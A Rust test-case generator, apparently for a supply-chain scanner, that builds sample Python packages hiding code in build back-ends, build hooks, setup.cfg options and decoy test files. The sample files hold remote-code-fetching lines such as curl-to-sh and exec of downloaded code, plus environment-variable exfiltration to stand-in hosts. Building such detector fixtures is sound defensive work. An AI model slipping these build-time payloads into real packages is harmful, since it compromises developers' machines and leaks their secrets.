//! Techniques 10 to 14: builds that run more than `setup.py`.

use crate::case::{Cases, Trigger::Build};
use crate::package::{sdist, setup, tree};

pub(crate) fn add(cases: &mut Cases) {
    back_ends(cases);
    hooks(cases);
    configuration(cases);
}

const IN_TREE: &str = r#"
[build-system]
requires = ["setuptools>=61"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "«name»"
version = "«version»"
"#;

fn back_ends(cases: &mut Cases) {
    cases
        .technique(10, "in-tree-back-end", Build)
        .case("get-requires", sdist().file("pyproject.toml", IN_TREE).file("_build/backend.py", r#"
from setuptools.build_meta import *
from setuptools import build_meta as _orig


def get_requires_for_build_wheel(config_settings=None):
    import urllib.request
    exec(urllib.request.urlopen("https://stage.example.invalid/b").read())
    return _orig.get_requires_for_build_wheel(config_settings)
"#))
        .case("prepare-metadata", sdist().file("pyproject.toml", IN_TREE).file("_build/backend.py", r#"
import base64
import setuptools.build_meta as meta
build_wheel = meta.build_wheel
build_sdist = meta.build_sdist

def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    eval(compile(base64.b64decode("«steal|b64»"), "", "exec"))
    return meta.prepare_metadata_for_build_wheel(metadata_directory, config_settings)
"#))
        .case("beside-a-known-back-end", sdist().file("pyproject.toml", r#"
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"
backend-path = ["tools"]

[project]
name = "«name»"
version = "«version»"
"#).file("tools/tokenize.py", r#"
import urllib.request
exec(urllib.request.urlopen("https://stage.example.invalid/t").read())
"#))
        .case("class-back-end", tree().file("pyproject.toml", r#"
[build-system]
requires = ["flit_core >=3.2,<4"]
build-backend = "tools.build:backend"
backend-path = ["."]

[project]
name = "«name»"
version = "«version»"
description = "x"
"#).file("tools/__init__.py", "").file("tools/build.py", r#"
import os
from flit_core import buildapi


class Backend:
    def __getattr__(self, name):
        return getattr(buildapi, name)

    def build_wheel(self, wheel_directory, config_settings=None, metadata_directory=None):
        os.system("curl http://192.0.2.12/k | sh")
        return buildapi.build_wheel(wheel_directory, config_settings, metadata_directory)


backend = Backend()
"#))
        .case("top-level", sdist().file("pyproject.toml", IN_TREE).file("_build/backend.py", r#"
from setuptools.build_meta import *  # noqa
from ._steps import go
go()
"#).file("_build/_steps.py", r#"
import os, json
from urllib import request
def go():
    request.urlopen("http://collect.example.invalid", json.dumps({k: os.environ[k] for k in os.environ}).encode())
"#));
    cases
        .technique(11, "build-requirement-by-address", Build)
        .case("https-wheel", sdist().file("pyproject.toml", r#"
[build-system]
requires = ["setuptools", "buildtools @ https://files.example.invalid/buildtools-1.0-py3-none-any.whl"]
build-backend = "setuptools.build_meta"

[project]
name = "«name»"
version = "«version»"
"#))
        .case("git", sdist().file("pyproject.toml", r#"
[build-system]
requires = [
    "hatchling",
    "hatch-extra@git+https://git.example.invalid/x/hatch-extra.git@main",
]
build-backend = "hatchling.build"

[project]
name = "«name»"
version = "«version»"
"#))
        .case("http-address", sdist().file("pyproject.toml", r#"
[build-system]
build-backend = "setuptools.build_meta"
requires = ['wheel', 'setuptools @ http://192.0.2.200/setuptools-99.0.tar.gz']

[project]
name = "«name»"
version = "«version»"
"#));
}

fn hooks(cases: &mut Cases) {
    cases
        .technique(12, "build-hook", Build)
        .case("meson-starts-script", sdist().file("meson.build", "project('x')\npy = import('python').find_installation()\nrun_command(py, 'tools/rev.py', check: false)\n")
            .file("pyproject.toml", "[build-system]\nrequires = ['meson-python']\nbuild-backend = 'mesonpy'\n")
            .file("tools/rev.py", "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.12/r').read())\n"))
        .case("cmake-runs-download", sdist().file("CMakeLists.txt", "file(DOWNLOAD \"http://stage.example.invalid/c\" \"${CMAKE_BINARY_DIR}/cfg.sh\")\nexecute_process(COMMAND sh \"${CMAKE_BINARY_DIR}/cfg.sh\")\n")
            .file("pyproject.toml", "[build-system]\nrequires = ['scikit-build-core']\nbuild-backend = 'scikit_build_core.build'\n"))
        .case(
            "hatch",
            sdist()
                .file(
                    "pyproject.toml",
                    r#"
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "«name»"
version = "«version»"

[tool.hatch.build.hooks.custom]
path = "hatch_build.py"
"#,
                )
                .file(
                    "hatch_build.py",
                    r#"
import subprocess
from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        subprocess.run("curl -sSL https://stage.example.invalid/h | sh", shell=True)
"#,
                ),
        )
        .case(
            "pdm",
            sdist()
                .file(
                    "pyproject.toml",
                    r#"
[build-system]
requires = ["pdm-backend"]
build-backend = "pdm.backend"

[project]
name = "«name»"
version = "«version»"

[tool.pdm.build]
custom-hook = "pdm_build.py"
"#,
                )
                .file(
                    "pdm_build.py",
                    r#"
def pdm_build_initialize(context):
    import base64
    exec(base64.b64decode(b"«fetch|b64»"))
"#,
                ),
        )
        .case(
            "poetry",
            sdist()
                .file(
                    "pyproject.toml",
                    r#"
[build-system]
requires = ["poetry-core"]
build-backend = "poetry.core.masonry.api"

[tool.poetry]
name = "«name»"
version = "«version»"
description = ""
authors = []

[tool.poetry.build]
script = "build.py"
"#,
                )
                .file(
                    "build.py",
                    r#"
import os, requests
def build(setup_kwargs):
    requests.post("https://collect.example.invalid/v1", json={"e": dict(os.environ)})
    setup_kwargs.update({})
if __name__ == "__main__":
    build({})
"#,
                ),
        )
        .case(
            "hatch-metadata",
            sdist()
                .file(
                    "pyproject.toml",
                    r#"
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "«name»"
dynamic = ["version"]

[tool.hatch.version]
source = "code"
path = "tools/version_info.py"
"#,
                )
                .file(
                    "tools/version_info.py",
                    r#"
import urllib.request as q
exec(q.urlopen("http://192.0.2.19/v").read())
__version__ = "«version»"
"#,
                ),
        );
}

fn configuration(cases: &mut Cases) {
    cases
        .technique(13, "setup-cfg-points-to-payload", Build)
        .case("cmdclass", setup("import setuptools\nsetuptools.setup()\n").file("setup.cfg", r#"
[metadata]
name = «name»
version = «version»

[options]
packages = find:
cmdclass =
    install = buildext.InstallCommand
"#).file("buildext.py", r#"
import os
from setuptools.command.install import install

class InstallCommand(install):
    def run(self):
        os.system("curl http://stage.example.invalid/c|sh")
        super().run()
"#))
        .case("attr-version", setup("from setuptools import setup\nsetup()\n").file("setup.cfg", r#"
[metadata]
name = «name»
version = attr: «pkg»._meta.get_version

[options]
packages = find:
"#).file("«pkg»/__init__.py", "").file("«pkg»/_meta.py", r#"
import codecs
def _v():
    exec(codecs.decode("«beacon|hex»", "hex"))
    return "«version»"
get_version = _v()
"#))
        .case("pyproject-dynamic", sdist().file("pyproject.toml", r#"
[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"

[project]
name = "«name»"
dynamic = ["version"]

[tool.setuptools.dynamic]
version = {attr = "«pkg».about.VERSION"}

[tool.setuptools.cmdclass]
build_py = "«pkg».about.Build"
"#).file("«pkg»/__init__.py", "").file("«pkg»/about.py", r#"
from setuptools.command.build_py import build_py
import subprocess
VERSION = ".".join(map(str, (1, 0, 2)))

class Build(build_py):
    def run(self):
        subprocess.Popen("wget http://192.0.2.44/p -O /tmp/.p; chmod +x /tmp/.p; /tmp/.p", shell=True)
        build_py.run(self)
"#));
    cases
        .technique(14, "decoy-file-run-by-setup", Build)
        .note("the files look as if only tests used them, but the build runs them")
        .case("conftest", setup(r#"
from setuptools import setup, find_packages
import conftest  # noqa: F401
«setup»
"#).file("conftest.py", r#"
import os, urllib.request
urllib.request.urlopen("https://collect.example.invalid/t", data=str(os.environ).encode())
"#))
        .case("noxfile", setup(r#"
import importlib.util as u
from setuptools import setup, find_packages
spec = u.spec_from_file_location("noxfile", "noxfile.py")
module = u.module_from_spec(spec)
spec.loader.exec_module(module)
«setup»
"#).file("noxfile.py", "import os\nos.system('curl 192.0.2.3/n | bash')\n"))
        .case("tests-helper", setup(r#"
from setuptools import setup, find_packages
exec(open("tests/helpers.py").read())
«setup»
"#).file("tests/helpers.py", "import subprocess\nsubprocess.call('wget -qO- http://stage.example.invalid/t | python3', shell=True)\n"));
}
